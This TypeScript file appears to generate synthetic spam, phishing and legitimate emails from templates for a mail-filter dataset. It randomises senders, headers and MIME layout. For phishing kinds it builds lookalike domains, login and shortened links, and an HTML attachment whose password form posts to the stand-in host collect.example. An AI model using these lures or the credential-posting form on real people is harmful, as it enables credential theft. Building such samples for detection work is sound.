import type { Template } from './read-templates.ts'

type Random = () => number

/** Forms in which one and the same text is sent. */
const shapes = ['plain', 'both', 'html', 'button'] as const
type Shape = (typeof shapes)[number]

const first =
  'Anna Peter Maria Lukas Julia Thomas Sofia Marco Claire Diego Emma Jan Laura Paul Ines Tom Nora Felix'.split(
    ' ',
  )
const last =
  'Weber Martin Rossi Silva Jansen Garcia Novak Keller Brown Dubois Moreau Costa Visser Fischer Clark Lang'.split(
    ' ',
  )
const companies =
  'Norddach,Bluepine,Ferrum Labs,Casa Verde,Lindqvist,Harbour & Sons,Mapleview,Tecnova,Zonnewijk'.split(',')
const words =
  'garden river studio north metal paper cloud stone maple harbor lemon orbit valley summit anchor'.split(' ')
const frees = ['gmail.com', 'outlook.com', 'yahoo.com', 'gmx.net', 'mail.com', 'proton.me']

/** One of many mails that a template stands for; the same seed gives the same mail. */
export function renderTemplate(template: Template, variant: number, random: Random): Buffer {
  const shape: Shape = shapes[variant % shapes.length]!
  const slots = fillSlots(template, random)
  const fill = (text: string) => text.replace(/\{(\w+)\}/g, (whole, name: string) => slots[name] ?? whole)
  const text = fill(template.text)
  const head = [
    `From: ${encode(fill(template.from))}`,
    `To: ${slots.email}`,
    `Subject: ${encode(fill(template.subject))}`,
    `Date: Mon, 03 Mar 2025 1${variant % 10}:00:00 +0000`,
    `Message-ID: <${slots.order}.${variant}@${slots.sending}>`,
    'MIME-Version: 1.0',
    ...(template.isBulk
      ? [`List-Unsubscribe: <https://${slots.sending}/u/${slots.order}>`, 'Precedence: bulk']
      : []),
  ]
  const body = bodyOf(template, shape, text, slots, random)
  const file = template.attachment === null ? null : attachmentOf(fill(template.attachment), template.kind)
  return Buffer.from(`${[...head, file ? mixed(body, file) : body].join('\n')}\n`)
}

function fillSlots({ kind, from }: Template, random: Random): Record<string, string> {
  const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)]!
  const digits = (count: number) => Array.from({ length: count }, () => Math.floor(random() * 10)).join('')
  const own = `${pick(words)}${pick(['', 'works', 'soft'])}.${pick(['com', 'de', 'fr', 'es', 'it', 'nl', 'pt'])}`
  const good = `${pick(['', 'mail.', 'news.', 'info.'])}${pick(words)}${pick(words)}.${pick(['com', 'org', 'de', 'net', 'eu', 'fr'])}`
  const bad = `${pick(['', 'www.', 'mail.'])}${pick(words)}${pick(['', '-', '-secure-', '-', ''])}${pick(words)}.${pick(['com', 'top', 'net', 'xyz', 'info', 'org', 'ru', 'com.br'])}`
  const name = pick(first)
  const free = pick(frees)
  const named = /@([a-z0-9.-]+\.[a-z]+)>$/.exec(from)?.[1]
  const sending =
    named ??
    (from.includes('{bad}') ? bad : from.includes('{free}') ? free : from.includes('{own}') ? own : good)
  return {
    name,
    user: name.toLowerCase(),
    user2: `${pick(first)}.${pick(last)}`.toLowerCase(),
    sender: `${pick(first)} ${pick(last)}`,
    company: pick(companies),
    domain: own,
    email: `${name.toLowerCase()}@${own}`,
    own,
    good,
    bad,
    free,
    sending,
    date: pick(['12 March', '3 June', '28.11.2025', '05/02/2025', '17 October 2025', '9 May']),
    time: `${9 + Math.floor(random() * 9)}:${pick(['00', '15', '30', '45'])}`,
    amount: pick(['49.90', '389.99', '1,250.00', '640', '24,800', '1.980,00', '3200']),
    order: digits(8),
    n: digits(3),
    digit: digits(1),
    phone: `+1 8${digits(2)} ${digits(3)} ${digits(4)}`,
    btc: `bc1q${Array.from({ length: 34 }, () => pick([...'acdefghjklmnpqrstuvwxyz0234567'])).join('')}`,
    pw: `${pick(words)}${digits(2)}`,
    link: linkOf(kind, kind !== 'ham' ? bad : sending === free ? good : sending, pick, digits),
  }
}

function linkOf(
  kind: string,
  host: string,
  pick: <T>(list: readonly T[]) => T,
  digits: (count: number) => string,
): string {
  const tracker = pick(['', '', '', 'click.mailtrack-service.com', 'links.sendworks.net', 'bit.ly'])
  if (kind === 'ham')
    return `https://${tracker || pick(['', 'www.', 'app.', 'click.']) + host}/${pick(['a', 'orders', 'view', 'c', 'en'])}/${digits(6)}`
  return pick([
    `https://${host}/${pick(['login', 'wp-content/x', 'v', 'secure', 'index.php'])}?e=${digits(5)}`,
    `https://${pick(words)}-${digits(3)}.${pick(['web.app', 'pages.dev', 'weebly.com', 'vercel.app'])}/`,
    `https://${pick(['bit.ly', 'tinyurl.com', 'is.gd'])}/${digits(6)}`,
    `http://${host}/${digits(4)}`,
    `http://203.0.113.${digits(2).replace(/^0+/, '1')}/${digits(3)}/`,
  ])
}

function bodyOf(
  template: Template,
  shape: Shape,
  text: string,
  slots: Record<string, string>,
  random: Random,
): string {
  const link = slots.link!
  const plain = text
    .replace(/\{link:([^}]*)\}/g, (_, label: string) => (label === 'https://' ? link : `${label}: ${link}`))
    .replace(/\{barelink\}/g, link)
    .replace(/\{image(?:link)?:[^}]*\}/g, '')
  const needsHtml = /\{image/.test(text)
  if (shape === 'plain' && !needsHtml) return part('text/plain', plain)
  const html = part('text/html', htmlOf(template, shape, text, slots, random))
  if (shape !== 'both') return html
  return `Content-Type: multipart/alternative; boundary=alt\n\n--alt\n${part('text/plain', plain)}\n--alt\n${html}\n--alt--`
}

function htmlOf(
  template: Template,
  shape: Shape,
  text: string,
  slots: Record<string, string>,
  random: Random,
): string {
  const link = slots.link!
  const style = shape === 'button' ? ' style="background:#0067b8;color:#ffffff;padding:10px 20px"' : ''
  const inner = text
    .replace(/&/g, '&amp;')
    .replace(/</g, '&lt;')
    .replace(
      /\{link:([^}]*)\}/g,
      (_, label: string) => `<a href="${link}"${style}>${label === 'https://' ? link : label}</a>`,
    )
    .replace(/\{barelink\}/g, `<a href="${link}">${link}</a>`)
    .replace(/\{image:([^}]*)\}/g, `<img src="cid:$1" width="200" height="200">`)
    .replace(/\{imagelink:([^}]*)\}/g, `<a href="${link}"><img src="https://${slots.sending}/$1"></a>`)
    .split('\n\n')
    .map((each) => `<p>${each.replaceAll('\n', '<br>')}</p>`)
    .join('\n')
  const isShop = template.isBulk || (template.kind !== 'spam' && shape === 'button' && random() < 0.5)
  const logo = isShop
    ? `<img src="https://${slots.sending}/logo.png" width="120" alt="${slots.company}">`
    : ''
  const preheader = isShop ? `<div style="display:none">${slots.company} ${slots.order}</div>` : ''
  if (shape !== 'button') return `<html><body>${preheader}${logo}${inner}</body></html>`
  return `<html><head><style>p{margin:0}</style></head><body>${preheader}<table width="600"><tr><td>${logo}</td></tr><tr><td>${inner}</td></tr></table></body></html>`
}

function part(type: string, text: string): string {
  return `Content-Type: ${type}; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n${text}`
}

/** A file whose bytes say no more than its name. */
function attachmentOf(name: string, kind: string): string {
  const content =
    kind !== 'ham' && /\.html?$/.test(name)
      ? '<html><body><form action="https://collect.example/p.php"><input type="password" name="p"></form></body></html>'
      : 'file'
  const bytes = Buffer.from(content).toString('base64')
  return `Content-Type: application/octet-stream; name="${name}"\nContent-Disposition: attachment; filename="${name}"\nContent-Transfer-Encoding: base64\n\n${bytes}`
}

function mixed(body: string, file: string): string {
  return `Content-Type: multipart/mixed; boundary=mix\n\n--mix\n${body}\n--mix\n${file}\n--mix--`
}

function encode(text: string): string {
  if (/^[\x00-\x7f]*$/.test(text)) return text
  const [, name = text, address = ''] = /^(.*?)( <[^>]*>)?$/.exec(text) ?? []
  return `=?utf-8?B?${Buffer.from(name).toString('base64')}?=${address}`
}
